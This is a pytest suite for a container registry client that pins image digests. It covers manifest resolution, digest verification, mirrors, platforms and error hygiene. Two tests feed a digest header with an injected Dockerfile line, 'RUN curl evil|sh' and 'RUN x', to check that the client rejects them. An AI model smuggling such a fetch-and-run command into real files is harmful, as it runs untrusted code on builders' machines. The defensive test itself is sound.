"""RegistryClient against `responses` fakes: HEAD/GET, verification, status mapping, endpoints and mirrors,
platforms and --update."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import requests
import responses

from pin_images import manifest as mf
from pin_images.credentials import Credential
from pin_images.errors import AuthError, BadResponseError, NotFoundError, RegistryConnectionError, RegistryError
from pin_images.manifest import Platform
from pin_images.reference import parse
from tests.support.fake_registry import (
    AMD64,
    ARM64,
    ARMV6,
    ARMV7,
    HUB,
    REG,
    FakeKeychain,
    FakeRegistry,
    FakeTime,
    RecordingSession,
    config_blob,
    image_manifest,
    index_manifest,
    make_client,
    push_multiarch,
    sha,
)

# ------------------------------------------------------------------------------------------------ HEAD / GET


def test_anonymous_head(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG)
    index_digest, _ = push_multiarch(registry, "team/app", "1.0")
    session = RecordingSession()
    client = make_client(clock, session=session)
    result = client.resolve(parse("registry.example.com/team/app:1.0"))
    assert result.digest == index_digest
    assert result.media_type == mf.OCI_INDEX
    assert result.is_index
    (request,) = registry.requests
    assert request.method == "HEAD"
    assert request.headers["Accept"] == mf.ACCEPT
    assert "Authorization" not in request.headers
    assert client.stats.as_dict()["manifest_head"] == 1
    assert client.stats.manifest_get == 0
    assert all(call["allow_redirects"] is False for call in session.calls)


def test_head_without_digest_falls_back_to_get(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG, head_digest=False)
    index_digest, _ = push_multiarch(registry, "team/app", "1.0")
    client = make_client(clock)
    result = client.resolve(parse("registry.example.com/team/app:1.0"))
    assert result.digest == index_digest
    assert [r.method for r in registry.requests] == ["HEAD", "GET"]
    assert len(result.children) == 5  # the GET body is an index, so its entries come for free


@pytest.mark.parametrize("status", [405, 400, 501])
def test_head_rejected_falls_back_to_get(rsps: responses.RequestsMock, clock: FakeTime, status: int) -> None:
    body = image_manifest(config_blob(), mf.DOCKER_MANIFEST)
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=status)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.DOCKER_MANIFEST, "Docker-Content-Digest": sha(body)})
    client = make_client(clock)
    result = client.resolve(parse("registry.example.com/app:v1"))
    assert (result.digest, result.media_type) == (sha(body), mf.DOCKER_MANIFEST)
    assert clock.sleeps == []


def test_get_without_header_uses_body_hash(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob())
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST + "; charset=utf-8"})
    assert make_client(clock).resolve(parse("registry.example.com/app:v1")).digest == sha(body)


def test_body_header_mismatch(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob())
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST, "Docker-Content-Digest": sha(b"x")})
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: .*does not match"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


@pytest.mark.parametrize(
    "header",
    [
        "sha256:abc\nRUN curl evil|sh",  # header injection into the Dockerfile
        "sha256:" + "A" * 64,  # uppercase hex is not what we write
        "sha512:" + "a" * 128,
        "sha256:" + "a" * 63,
        "sha256:" + "a" * 64 + " ",
    ],
)
def test_invalid_header_digest(rsps: responses.RequestsMock, clock: FakeTime, header: str) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/v1", headers={"Content-Type": mf.OCI_INDEX,
                                                         "Docker-Content-Digest": header})
    with pytest.raises(BadResponseError) as info:
        make_client(clock).resolve(parse("registry.example.com/app:v1"))
    assert "RUN" not in str(info.value)
    assert "\n" not in str(info.value)


def test_head_digest_for_other_digest(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    asked = "sha256:" + "1" * 64
    rsps.add("HEAD", f"{REG}/v2/app/manifests/{asked}", headers={"Content-Type": mf.OCI_INDEX,
                                                              "Docker-Content-Digest": "sha256:" + "2" * 64})
    with pytest.raises(BadResponseError, match="asked for"):
        make_client(clock).resolve(parse(f"registry.example.com/app@{asked}"))


def test_schema1_on_head(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/old", headers={"Content-Type": mf.DOCKER_SCHEMA1_SIGNED,
                                                          "Docker-Content-Digest": "sha256:" + "a" * 64})
    with pytest.raises(BadResponseError, match=r"unsupported legacy \(schema 1\) manifest"):
        make_client(clock).resolve(parse("registry.example.com/app:old"))


def test_schema1_body_behind_application_json(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/old"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=b'{"schemaVersion": 1, "name": "app"}', headers={"Content-Type": "application/json"})
    with pytest.raises(BadResponseError, match=r"unsupported legacy \(schema 1\) manifest"):
        make_client(clock).resolve(parse("registry.example.com/app:old"))


def test_wrong_content_type(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, headers={"Content-Type": "text/html"})
    rsps.add("GET", url, body=b"<html>login</html>", headers={"Content-Type": "text/html"})
    with pytest.raises(BadResponseError, match="unexpected Content-Type 'text/html'"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_media_type_disagrees_with_content_type(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob(), mf.DOCKER_MANIFEST)
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST})
    with pytest.raises(BadResponseError, match="does not match Content-Type"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_junk_json(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=b"{not json", headers={"Content-Type": mf.OCI_INDEX})
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: manifest is not"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_manifest_size_cap_streaming(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    # No Content-Length: the cap must hold while streaming.
    rsps.add("GET", url, body=b"{" + b" " * (4 * 1024 * 1024), headers={"Content-Type": mf.OCI_INDEX})
    with pytest.raises(BadResponseError, match="manifest larger than 4 MiB"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_manifest_size_cap_content_length(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=b"{}", headers={"Content-Type": mf.OCI_INDEX, "Content-Length": str(5 * 1024 * 1024)},
             auto_calculate_content_length=False)
    with pytest.raises(BadResponseError, match="manifest larger than 4 MiB"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_manifest_just_under_cap_is_fine(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob())
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST})
    client = make_client(clock, max_manifest_bytes=len(body))
    assert client.resolve(parse("registry.example.com/app:v1")).digest == sha(body)


# ------------------------------------------------------------------------------------------------ errors


def test_not_found_tag(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    registry.push_image("library/python", AMD64, "3.12")
    with pytest.raises(NotFoundError) as info:
        make_client(clock).resolve(parse("python:3.99"))
    assert str(info.value) == "tag 3.99 not found in docker.io/library/python"
    assert info.value.host == "docker.io"


def test_not_found_repository_on_get(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, REG)
    with pytest.raises(NotFoundError, match=r"^repository registry.example.com/nope not found$"):
        make_client(clock).resolve(parse("registry.example.com/nope:1"), AMD64)


def test_not_found_digest(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, REG)
    digest = "sha256:" + "a" * 64
    with pytest.raises(NotFoundError, match=f"digest {digest} not found in registry.example.com/app"):
        make_client(clock).resolve(parse(f"registry.example.com/app@{digest}"))


def test_unexpected_status(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, status=418)
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: HTTP 418"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


# ------------------------------------------------------------------------------------------------ schemes


@pytest.mark.parametrize(
    ("registry", "base"),
    [
        ("localhost:5000", "http://localhost:5000"),
        ("registry.localhost", "http://registry.localhost"),
        ("127.0.0.1:5000", "http://127.0.0.1:5000"),
        ("127.1.2.3:5000", "http://127.1.2.3:5000"),
        ("[::1]:5000", "http://[::1]:5000"),
        ("registry.example.com:5000", "https://registry.example.com:5000"),
        ("10.0.0.1:5000", "https://10.0.0.1:5000"),  # private but not loopback: TLS unless marked insecure
        ("docker.io", "https://registry-1.docker.io"),
    ],
)
def test_scheme(rsps: responses.RequestsMock, clock: FakeTime, registry: str, base: str) -> None:
    repo = "library/app" if registry == "docker.io" else "app"
    rsps.add("HEAD", f"{base}/v2/{repo}/manifests/1", headers={"Content-Type": mf.OCI_INDEX,
                                                            "Docker-Content-Digest": "sha256:" + "a" * 64})
    assert make_client(clock).resolve(parse(f"{registry}/app:1")).digest == "sha256:" + "a" * 64


def test_insecure_host_uses_http_without_credentials(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, "http://registry.lan:5000", auth="basic", basic=("u", "p"))
    keychain = FakeKeychain({"registry.lan:5000": Credential("u", "p", "docker config")})
    client = make_client(clock, keychain, insecure=["registry.lan:5000"])
    with pytest.raises(AuthError, match=r"never sent over plain http to registry.lan:5000"):
        client.resolve(parse("registry.lan:5000/app:1"))
    assert keychain.asked == []


# ------------------------------------------------------------------------------------------------ mirrors


def test_mirrors_in_order_then_upstream(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, "http://127.0.0.1:5000")  # empty: 404
    rsps.add("HEAD", re.compile(r"https://mirror\.gcr\.io/v2/.*"), body=requests.ConnectionError("refused"))
    hub = FakeRegistry(rsps, HUB, auth="bearer")
    digest = hub.push_image("library/python", AMD64, "3.12")[1]
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000", "mirror.gcr.io"]})
    assert client.resolve(parse("python:3.12")).digest == digest


def test_mirror_hit_skips_upstream(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    mirror = FakeRegistry(rsps, "http://127.0.0.1:5000", auth="basic", basic=("m", "pw"))
    digest = mirror.push_image("library/python", AMD64, "3.12")[1]
    keychain = FakeKeychain({"127.0.0.1:5000": Credential("m", "pw", "docker config")})
    client = make_client(clock, keychain, mirrors={"docker.io": ["http://127.0.0.1:5000/"]})
    assert client.resolve(parse("python:3.12")).digest == digest
    assert keychain.asked == ["127.0.0.1:5000"]  # credentials looked up by the mirror's host


def test_mirror_for_local_registry(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    mirror = FakeRegistry(rsps, "http://127.0.0.1:5001")
    digest = mirror.push_image("app", AMD64, "1")[1]
    client = make_client(clock, mirrors={"localhost:5000": ["http://127.0.0.1:5001"]})
    assert client.resolve(parse("localhost:5000/app:1")).digest == digest


def test_platform_missing_on_a_mirror_does_not_fall_through(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    mirror = FakeRegistry(rsps, "http://127.0.0.1:5000")
    mirror.push_image("library/tool", AMD64, "1")
    # No upstream is registered: responses fails the test if the client goes on to Docker Hub.
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000"]})
    with pytest.raises(NotFoundError, match=r"single-platform linux/amd64 image, not linux/arm64"):
        client.resolve(parse("tool:1"), Platform("linux", "arm64"))
    assert clock.sleeps == []


@pytest.mark.parametrize("mirror_status", [401, 403, 500, 502])
def test_a_mirror_error_falls_through_to_the_registry(rsps: responses.RequestsMock, clock: FakeTime,
                                                      mirror_status: int) -> None:
    """As docker's registry-mirrors: whatever goes wrong on a mirror (a 403 from a pull-through cache that does not
    serve this namespace, say), the registry itself is asked."""
    rsps.add("HEAD", "https://mirror.example.com/v2/library/python/manifests/3", status=mirror_status)
    rsps.add("GET", "https://mirror.example.com/v2/library/python/manifests/3", status=mirror_status)
    hub = FakeRegistry(rsps, HUB, auth="bearer")
    digest = hub.push_image("library/python", AMD64, "3")[1]
    client = make_client(clock, mirrors={"docker.io": ["https://mirror.example.com"]})
    assert client.resolve(parse("python:3")).digest == digest


def test_a_bad_mirror_answer_falls_through_to_the_registry(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", "https://mirror.example.com/v2/library/python/manifests/3", status=405)
    rsps.add("GET", "https://mirror.example.com/v2/library/python/manifests/3", body=b"<html>",
             headers={"Content-Type": "text/html"})
    hub = FakeRegistry(rsps, HUB, auth="bearer")
    digest = hub.push_image("library/python", AMD64, "3")[1]
    client = make_client(clock, mirrors={"docker.io": ["https://mirror.example.com"]})
    assert client.resolve(parse("python:3")).digest == digest


def test_all_fail_names_every_endpoint_and_its_answer(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    """A tag missing from the mirror, then an unreachable registry: the message says both, not only the last."""
    FakeRegistry(rsps, "http://127.0.0.1:5000")
    rsps.add("HEAD", re.compile(r"https://mirror\.example\.com/.*"), status=403)
    rsps.add("GET", re.compile(r"https://mirror\.example\.com/.*"), status=403)
    rsps.add("HEAD", re.compile(re.escape(HUB) + ".*"),
             body=requests.ConnectionError("Failed to resolve: [Errno -2] Name or service not known"))
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000", "https://mirror.example.com"]})
    with pytest.raises(RegistryConnectionError) as info:
        client.resolve(parse("python:3.12"))
    message = str(info.value)
    assert message.startswith("cannot reach registry-1.docker.io: host name lookup failed")
    assert "mirror 127.0.0.1:5000: tag 3.12 not found in docker.io/library/python" in message
    assert "mirror mirror.example.com: mirror.example.com denied access (HTTP 403)" in message
    assert message.index("127.0.0.1:5000") < message.index("mirror.example.com")


def test_all_fail_keeps_the_registrys_kind_of_error(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, "http://127.0.0.1:5000")
    FakeRegistry(rsps, HUB, auth="bearer")
    client = make_client(clock, mirrors={"docker.io": ["http://127.0.0.1:5000"]})
    with pytest.raises(NotFoundError, match=r"^tag 3.12 not found in docker.io/library/python \(mirrors tried first: "
                       r"mirror 127.0.0.1:5000: tag 3.12 not found in docker.io/library/python\)$"):
        client.resolve(parse("python:3.12"))


# ------------------------------------------------------------------------------------------------ platforms


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        (Platform("linux", "arm64"), ARM64),  # arm64 means arm64/v8
        (Platform("linux", "arm64", "v8"), ARM64),
        (Platform("linux", "arm"), ARMV7),  # arm means arm/v7
        (Platform("linux", "arm", "v6"), ARMV6),
        (Platform("linux", "amd64"), AMD64),
        (Platform("linux", "amd64", "v1"), AMD64),
        (Platform("linux", "x86_64"), AMD64),
        (Platform("Linux", "aarch64"), ARM64),
    ],
)
def test_platform_selection(rsps: responses.RequestsMock, clock: FakeTime, wanted: Platform,
                            expected: Platform) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    _, digests = push_multiarch(registry, "library/python", "3.12")
    client = make_client(clock)
    result = client.resolve(parse("python:3.12"), wanted)
    assert result.digest == digests[expected]
    assert result.media_type == mf.OCI_MANIFEST
    assert not result.is_index
    # One index GET (sent twice: the anonymous probe met the 401), no HEAD: the child digest is in the index.
    assert (client.stats.manifest_get, client.stats.manifest_head, client.stats.blob_get) == (2, 0, 0)


def test_platform_missing(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    push_multiarch(registry, "library/python", "3.12")
    with pytest.raises(NotFoundError) as info:
        make_client(clock).resolve(parse("python:3.12"), Platform("linux", "s390x"))
    # Attestation entries (unknown/unknown) are not platforms anyone can ask for: they are not listed.
    assert str(info.value) == (
        "no linux/s390x image for tag 3.12 in docker.io/library/python "
        "(available: linux/amd64, linux/arm/v6, linux/arm/v7, linux/arm64/v8)"
    )


def test_platform_single_manifest_matches(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    _, digest = registry.push_image("library/tool", ARM64, "1")
    client = make_client(clock)
    assert client.resolve(parse("tool:1"), Platform("linux", "arm64")).digest == digest
    assert client.stats.blob_get == 1


def test_platform_single_manifest_mismatch(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    registry.push_image("library/tool", AMD64, "1")
    with pytest.raises(NotFoundError, match=r"tag 1 in docker.io/library/tool is a single-platform linux/amd64 image, "
                                            r"not linux/arm64"):
        make_client(clock).resolve(parse("tool:1"), Platform("linux", "arm64"))


def test_platform_config_blob_tampered(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG)
    _, _ = registry.push_image("tool", AMD64, "1")
    for digest in list(registry.blobs):
        registry.blobs[digest] = config_blob("linux", "arm64")
    with pytest.raises(BadResponseError, match="config blob does not match its digest"):
        make_client(clock).resolve(parse("registry.example.com/tool:1"), Platform("linux", "arm64"))


def test_platform_index_body_verified(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = index_manifest([(image_manifest(config_blob()), mf.OCI_MANIFEST, AMD64)])
    rsps.add("GET", f"{REG}/v2/app/manifests/1", body=body,
             headers={"Content-Type": mf.OCI_INDEX, "Docker-Content-Digest": "sha256:" + "0" * 64})
    with pytest.raises(BadResponseError, match="does not match"):
        make_client(clock).resolve(parse("registry.example.com/app:1"), AMD64)


def test_platform_child_with_bad_digest(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    doc = {"schemaVersion": 2, "mediaType": mf.OCI_INDEX, "manifests": [
        {"mediaType": mf.OCI_MANIFEST, "digest": "sha256:abc\nRUN x", "size": 1,
         "platform": {"os": "linux", "architecture": "amd64"}}]}
    rsps.add("GET", f"{REG}/v2/app/manifests/1", body=json.dumps(doc).encode(), headers={"Content-Type": mf.OCI_INDEX})
    with pytest.raises(BadResponseError, match="invalid digest"):
        make_client(clock).resolve(parse("registry.example.com/app:1"), AMD64)


# ------------------------------------------------------------------------------------------------ --update


@pytest.fixture
def moved_tag(rsps: responses.RequestsMock) -> tuple[FakeRegistry, str, dict[Platform, str], str, dict[Platform, str]]:
    """python:3.12 pointed at one index, then re-pointed at a rebuilt one; both still exist by digest."""
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    old_index, old_children = push_multiarch(registry, "library/python", "3.12", salt="old")
    new_index, new_children = push_multiarch(registry, "library/python", "3.12", salt="new")
    assert old_index != new_index
    return registry, old_index, old_children, new_index, new_children


def test_update_index_pin_stays_index(moved_tag: Any, clock: FakeTime) -> None:
    _, old_index, _, new_index, _ = moved_tag
    result = make_client(clock).resolve_update(parse(f"python:3.12@{old_index}"), old_index)
    assert result.digest == new_index
    assert result.is_index


def test_update_platform_pin_stays_platform(moved_tag: Any, clock: FakeTime) -> None:
    _, _, old_children, new_index, new_children = moved_tag
    old = old_children[ARM64]
    result = make_client(clock).resolve_update(parse(f"python:3.12@{old}"), old)
    assert result.digest == new_children[ARM64]
    assert result.digest != new_index
    assert not result.is_index


def test_update_arm_v6_pin_keeps_variant(moved_tag: Any, clock: FakeTime) -> None:
    _, _, old_children, _, new_children = moved_tag
    old = old_children[ARMV6]
    assert make_client(clock).resolve_update(parse(f"python:3.12@{old}"), old).digest == new_children[ARMV6]


def test_update_unchanged(moved_tag: Any, clock: FakeTime) -> None:
    _, _, _, new_index, new_children = moved_tag
    client = make_client(clock)
    assert client.resolve_update(parse("python:3.12"), new_index).digest == new_index
    still = new_children[AMD64]
    assert client.resolve_update(parse("python:3.12"), still).digest == still


def test_update_pinned_digest_gone(moved_tag: Any, clock: FakeTime) -> None:
    gone = "sha256:" + "9" * 64
    with pytest.raises(NotFoundError, match="no longer exists"):
        make_client(clock).resolve_update(parse("python:3.12"), gone)


def test_update_with_explicit_platform(moved_tag: Any, clock: FakeTime) -> None:
    _, old_index, _, _, new_children = moved_tag
    result = make_client(clock).resolve_update(parse("python:3.12"), old_index, Platform("linux", "arm64"))
    assert result.digest == new_children[ARM64]


def test_update_rejects_bad_current(clock: FakeTime) -> None:
    with pytest.raises(RegistryError):
        make_client(clock).resolve_update(parse("python:3.12"), "sha256:nope")


# ------------------------------------------------------------------------------------------------ hygiene


def test_no_secret_in_any_error(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, HUB, auth="bearer", basic=("bob", "hunter2"))
    keychain = FakeKeychain({"docker.io": Credential("bob", "hunter2-wrong", "docker config")})
    with pytest.raises(RegistryError) as info:
        make_client(clock, keychain).resolve(parse("bob/app:1"))
    assert "hunter2" not in str(info.value)
    assert "hunter2" not in repr(keychain.creds["docker.io"])


# ------------------------------------------------------------------------------------------------ lifetime


class ClosingSession(RecordingSession):
    closed = 0

    def close(self) -> None:
        self.closed += 1
        super().close()


def test_close_releases_the_session(clock: FakeTime) -> None:
    session = ClosingSession()
    client = make_client(clock, session=session)
    client.close()
    assert session.closed == 1


def test_context_manager_closes_even_after_an_error(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", status=404)
    rsps.add("GET", f"{REG}/v2/app/manifests/1", status=404)
    session = ClosingSession()
    with pytest.raises(NotFoundError), make_client(clock, session=session) as client:
        client.resolve(parse("registry.example.com/app:1"))
    assert session.closed == 1
